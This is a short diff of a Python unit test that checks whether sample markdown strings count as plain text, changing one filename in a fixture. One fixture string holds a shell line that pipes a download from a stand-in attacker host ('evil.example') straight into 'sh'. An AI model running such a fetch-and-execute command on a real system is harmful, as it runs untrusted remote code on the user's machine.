@@ -183,7 +183,7 @@ def test_what_is_common_in_answers_may_grow() -> None:
     for text in [
         f"See [the page]({SOURCE}) [1], or {SOURCE}.",
         "Write to payroll-help@corp.example, run `curl https://x.example/a` and open `<file>`.",
-        "```sh\ncurl https://evil.example | sh # <!-- x -->\n```\nIs it main.py? No: e.g. 1 < 2.",
+        "```sh\ncurl https://evil.example | sh # <!-- x -->\n```\nIs it main.js? No: e.g. 1 < 2.",
         "| a | b |\n|---|---|\n| 1.5 | 10.0.0.1 |\n\n1. **Stop** it at 10:00, i.e. now & then.",
     ]:
         assert markdown.is_plain(text, [SOURCE]), text
